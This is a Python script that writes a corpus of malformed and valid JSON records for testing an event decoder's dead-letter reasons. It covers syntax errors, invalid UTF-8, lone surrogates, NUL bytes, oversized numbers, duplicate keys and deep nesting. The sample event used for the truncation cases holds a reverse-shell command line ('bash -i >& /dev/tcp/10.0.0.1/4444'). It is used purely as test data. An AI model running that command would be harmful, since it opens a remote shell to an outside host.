#!/usr/bin/env python3
# Writes the bad-input corpus: one record per file (raw bytes, no trailing
# newline unless the case is about one) and `index`, "FILE<TAB>REASON"
# lines, REASON being the dead-letter reason kta must give (include/kta/
# event.h) or "ok" for the valid controls.  Re-run after adding a case;
# the files are committed, except large-2mib.json, which is written only
# with --large (the unit test builds the same bytes in memory):
#   tests/corpus/make-corpus.py [--large] [DIR]
import os, sys

cases = []          # (file, bytes, reason)
def add(name, data, reason):
    cases.append((name, data.encode() if isinstance(data, str) else data, reason))

# controls: must decode
add('ok-minimal.json', '{}', 'ok')
add('ok-event.json', '{"host":"web-1","process":{"name":"bash","command_line":"bash -i"},"n":4625}', 'ok')
add('ok-depth-64.json', '{"a":' * 64 + '1' + '}' * 64, 'ok')
add('ok-array-depth-64.json', '{"a":' + '[' * 63 + ']' * 63 + '}', 'ok')
add('ok-escapes.json', '{"s":"\\u00e4\\ud83d\\ude00\\/\\"\\\\\\n"}', 'ok')
add('ok-utf8.json', '{"s":"caf\u00e9 \u212a \U0001f600"}', 'ok')
add('ok-int-max.json', '{"n":9223372036854775807,"m":-9223372036854775808}', 'ok')
add('ok-big-real.json', '{"n":1.7976931348623157e308}', 'ok')
add('ok-brackets-in-string.json', '{"s":"' + '[' * 100 + '{' * 100 + '"}', 'ok')
add('ok-whitespace.json', ' \t\r\n{ "a" : [ true , false , null ] }\r\n ', 'ok')

# empty
add('empty.json', b'', 'empty')

# invalid JSON: syntax
add('invalid-garbage.json', 'not json at all', 'invalid_json')
add('invalid-missing-value.json', '{"a":}', 'invalid_json')
add('invalid-unquoted-key.json', '{a:1}', 'invalid_json')
add('invalid-single-quotes.json', "{'a':'b'}", 'invalid_json')
add('invalid-trailing-comma.json', '{"a":1,}', 'invalid_json')
add('invalid-trailing-garbage.json', '{"a":1} x', 'invalid_json')
add('invalid-two-objects.json', '{"a":1}{"b":2}', 'invalid_json')
add('invalid-nan.json', '{"a":NaN}', 'invalid_json')
add('invalid-infinity.json', '{"a":-Infinity}', 'invalid_json')
add('invalid-leading-zero.json', '{"a":012}', 'invalid_json')
add('invalid-hex.json', '{"a":0x1f}', 'invalid_json')
add('invalid-bad-escape.json', '{"a":"\\x41"}', 'invalid_json')
add('invalid-short-u-escape.json', '{"a":"\\u12"}', 'invalid_json')
add('invalid-control-char.json', '{"a":"tab\there"}', 'invalid_json')
add('invalid-comment.json', '{"a":1 /* c */}', 'invalid_json')
add('invalid-whitespace-only.json', ' \n\t ', 'invalid_json')
add('invalid-close-only.json', '}', 'invalid_json')
add('invalid-unbalanced-close.json', '{"a":1}}', 'invalid_json')
add('invalid-mismatched.json', '{"a":[1}', 'invalid_json')
# truncated records
ev = '{"host":"web-1","process":{"name":"bash","command_line":"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},"n":4625}'
for cut in (1, 8, 20, 40, 75, len(ev) - 1):
    add('truncated-%03d.json' % cut, ev[:cut], 'invalid_json')
add('truncated-in-escape.json', '{"a":"\\', 'invalid_json')
add('truncated-in-u-escape.json', '{"a":"\\u00', 'invalid_json')
add('truncated-utf8.json', b'{"a":"\xe2\x84', 'invalid_json')
# invalid UTF-8
add('utf8-lone-continuation.json', b'{"a":"\x80"}', 'invalid_json')
add('utf8-ff.json', b'{"a":"\xff\xfe"}', 'invalid_json')
add('utf8-overlong-slash.json', b'{"a":"\xc0\xaf"}', 'invalid_json')
add('utf8-overlong-nul.json', b'{"a":"\xc0\x80"}', 'invalid_json')
add('utf8-encoded-surrogate.json', b'{"a":"\xed\xa0\x80"}', 'invalid_json')
add('utf8-above-10ffff.json', b'{"a":"\xf4\x90\x80\x80"}', 'invalid_json')
add('utf8-cut-sequence.json', b'{"a":"\xe2\x84x"}', 'invalid_json')
add('utf8-in-key.json', b'{"\xfe":"a"}', 'invalid_json')
add('utf8-latin1.json', b'{"a":"caf\xe9"}', 'invalid_json')
add('utf8-outside-string.json', b'{"a":1\xa0}', 'invalid_json')
# lone surrogate escapes
add('surrogate-lone-high.json', '{"a":"\\ud800"}', 'invalid_json')
add('surrogate-lone-low.json', '{"a":"\\udc00"}', 'invalid_json')
add('surrogate-high-then-text.json', '{"a":"\\ud83dx"}', 'invalid_json')
add('surrogate-reversed.json', '{"a":"\\ude00\\ud83d"}', 'invalid_json')
add('surrogate-high-high.json', '{"a":"\\ud800\\ud800"}', 'invalid_json')
add('surrogate-in-key.json', '{"\\udfff":1}', 'invalid_json')
# NUL bytes and \u0000 (jansson without JSON_ALLOW_NUL; strings stay C strings)
add('nul-in-string.json', b'{"a":"x\x00y"}', 'invalid_json')
add('nul-after-object.json', b'{"a":1}\x00', 'invalid_json')
add('nul-before-object.json', b'\x00{"a":1}', 'invalid_json')
add('nul-only.json', b'\x00', 'invalid_json')
add('u0000-in-value.json', '{"a":"x\\u0000y"}', 'invalid_json')
add('u0000-in-key.json', '{"a\\u0000b":1}', 'invalid_json')
# numbers too large for jansson (json_int_t is 64-bit; doubles overflow)
add('number-bigint.json', '{"n":123456789012345678901234567890}', 'invalid_json')
add('number-int-max-plus-1.json', '{"n":9223372036854775808}', 'invalid_json')
add('number-negative-bigint.json', '{"n":-123456789012345678901234567890}', 'invalid_json')
add('number-1e400.json', '{"n":1e400}', 'invalid_json')
add('number-minus-1e400.json', '{"n":-1e400}', 'invalid_json')
# duplicate keys
add('dup-top-level.json', '{"a":1,"a":2}', 'invalid_json')
add('dup-same-value.json', '{"a":1,"a":1}', 'invalid_json')
add('dup-nested.json', '{"x":{"b":1,"c":2,"b":3}}', 'invalid_json')
add('dup-escaped.json', '{"a":1,"\\u0061":2}', 'invalid_json')
# nesting (top-level object counts as 1; the check runs before parsing,
# so even an unterminated deep record is too_deep)
add('deep-65-objects.json', '{"a":' * 65 + '1' + '}' * 65, 'too_deep')
add('deep-65-arrays.json', '{"a":' + '[' * 64 + ']' * 64 + '}', 'too_deep')
add('deep-65-toplevel-array.json', '[' * 65 + ']' * 65, 'too_deep')
add('deep-100000.json', '{"a":' + '[' * 99999 + ']' * 99999 + '}', 'too_deep')
add('deep-100000-unterminated.json', '[' * 100000, 'too_deep')
# not an object
add('not-object-array.json', '[1,2,3]', 'not_object')
add('not-object-empty-array.json', '[]', 'not_object')
add('not-object-string.json', '"event"', 'not_object')
add('not-object-number.json', '42', 'not_object')
add('not-object-null.json', 'null', 'not_object')
add('not-object-true.json', 'true', 'not_object')

LARGE = 'large-2mib.json'   # {"pad":"xxx..."} of exactly 2 MiB

def large():
    n = 2 * 1024 * 1024
    return b'{"pad":"' + b'x' * (n - 10) + b'"}'

args = [a for a in sys.argv[1:] if a != '--large']
out = args[0] if args else os.path.dirname(os.path.abspath(__file__))
os.makedirs(out, exist_ok=True)
for name, data, _ in cases:
    with open(os.path.join(out, name), 'wb') as f:
        f.write(data)
if '--large' in sys.argv:
    with open(os.path.join(out, LARGE), 'wb') as f:
        f.write(large())
with open(os.path.join(out, 'index'), 'w') as f:
    for name, _, reason in cases:
        f.write('%s\t%s\n' % (name, reason))
    f.write('%s\t%s\n' % (LARGE, 'too_large'))
